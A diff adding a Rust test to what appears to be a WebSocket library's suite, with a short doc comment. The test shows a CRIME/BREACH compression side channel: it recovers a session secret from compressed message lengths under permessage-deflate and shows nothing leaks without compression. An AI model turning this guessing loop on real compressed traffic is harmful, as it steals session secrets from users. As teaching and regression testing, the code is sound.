@@ -268,3 +268,47 @@ async fn others_are_not_disturbed() {
         assert_eq!(bystander.frame().await.unwrap().unwrap().0, 0xC1);
     }
 }
+
+// ANCHOR: breach
+/// CRIME/BREACH in miniature, lengths only: a message carries a secret (`session=3f9a1c`)
+/// and, next to it, text an attacker chooses (`session=` and a guess). The attacker sees
+/// only how long each compressed echo is, as a network observer sees TLS records, and
+/// recovers the secret one character at a time: the right guess repeats one more byte of
+/// the secret, so it compresses one byte shorter. No context takeover does not help: the
+/// secret and the guess share a message. Compression off: every length is the same.
+#[tokio::test]
+async fn breach_lengths_reveal_a_secret() {
+    const SECRET: &str = "3f9a1c";
+    async fn recover(server: &RawServer, offer: Option<&str>) -> String {
+        let (_, mut raw) = connect(server, offer).await;
+        let mut known = String::new();
+        for _ in 0..SECRET.len() {
+            let mut lengths = Vec::new();
+            for guess in "0123456789abcdef".chars() {
+                let message =
+                    format!(r#"{{"cookie":"session={SECRET}","q":"session={known}{guess}"}}"#);
+                raw.send(&masked(0x81, message.as_bytes())).await.unwrap();
+                let (_, echo) = raw.frame().await.unwrap().unwrap();
+                lengths.push((echo.len(), guess));
+            }
+            lengths.sort();
+            // A single shortest echo is a character learned; a tie, nothing learned.
+            if lengths[0].0 == lengths[1].0 {
+                break;
+            }
+            known.push(lengths[0].1);
+        }
+        known
+    }
+    let fresh = RawServer::with(|config| {
+        config.settings.compression = Some(DeflateConfig::no_context_takeover())
+    })
+    .await;
+    assert_eq!(recover(&fresh, Some("permessage-deflate")).await, SECRET);
+    assert_eq!(
+        recover(&fresh, None).await,
+        "",
+        "uncompressed: nothing leaks"
+    );
+}
+// ANCHOR_END: breach
